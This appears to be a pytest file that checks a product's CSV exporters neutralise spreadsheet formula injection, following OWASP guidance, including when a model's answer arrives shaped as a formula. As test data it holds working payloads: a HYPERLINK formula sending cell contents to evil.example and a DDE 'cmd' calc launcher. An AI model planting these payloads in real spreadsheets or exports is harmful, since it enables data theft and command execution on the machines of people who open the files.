"""CSV formula injection: every CSV the product writes neutralises cells a spreadsheet would run.

OWASP's CSV Injection guidance: a cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage
return is prefixed with ``'``. Numbers stay numbers (console/core/csv_cells.py says why). Each
exporter is driven the way a user drives it: ``report --csv`` over a real log, ``compare
--export`` against the fault server (which echoes the prompt as the answer), and the dashboard's
CSV export in tests/ui/test_dashboard_charts.py.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone
from pathlib import Path

import pytest

from console.cli.main import run
from console.core.csv_cells import FORMULA_TRIGGERS, safe_cell, write_rows
from console.core.ledger.bulk import write_records
from console.core.ledger.store import open_ledger
from console.core.outcomes import Outcome
from console.core.records import AttemptRecord, RequestRecord
from tests.support.fault_server import FaultServer, fault_server  # noqa: F401 - fixture

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def risky(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_becomes_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    out = io.StringIO()
    write_rows(out, ["cell"], [[text]])
    (cell,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1]
    assert cell == "'" + text and not risky(cell)


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert safe_cell(-0.25) == -0.25 and safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell(True) == "True"  # a bool is not a number to a spreadsheet
    assert safe_cell("gpt-mini") == "gpt-mini" and safe_cell("a=b") == "a=b"
    assert safe_cell("-5") == "'-5"  # text is judged as text: its look never lets it through
    out = io.StringIO()
    write_rows(out, ["delta"], [[-1.5]])
    assert out.getvalue().splitlines()[1] == "-1.5"


def _record(model: str, task: str, i: int) -> RequestRecord:
    started = datetime.now(timezone.utc)
    attempt = AttemptRecord(position=0, model_alias=model, provider="imported", provider_model_id=model,
                            outcome=Outcome.OK, started_at=started, latency_ms=100 + i, cost_usd=0.001)
    return RequestRecord(request_id=f"r{i:04d}", started_at=started, policy_name="p", policy_hash="h", task=task,
                         task_reason="rule", outcome=Outcome.OK, answered_by=model, attempts=[attempt])


def test_report_csv_neutralises_model_and_task_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    db = open_ledger(url)
    write_records(db, [_record(model, "@task", i) for i, model in enumerate(HOSTILE * 3)])
    db.dispose()
    assert run(["report", "--since", "2d", "--csv", "--db", url]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    assert not [cell for row in body for cell in row if risky(cell)]
    models = {row[header.index("model")] for row in body}
    assert models == {"'" + text for text in HOSTILE}
    assert {row[header.index("task")] for row in body} == {"'@task"}
    assert all(float(row[header.index("cost_usd")]) > 0 for row in body)  # numbers are still numbers


def test_compare_export_neutralises_an_answer_shaped_as_a_formula(
    fault_server: FaultServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "cmp.csv"
    # The fault server answers with the prompt: an answer a prompt injection shaped into a formula.
    code = run(["compare", "--models", f"ok@{fault_server.url}", FORMULA, "--no-log", "--export", str(out)])
    capsys.readouterr()
    assert code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["text"] == "'" + FORMULA
    assert not [cell for row in rows for cell in row.values() if cell and risky(cell)]
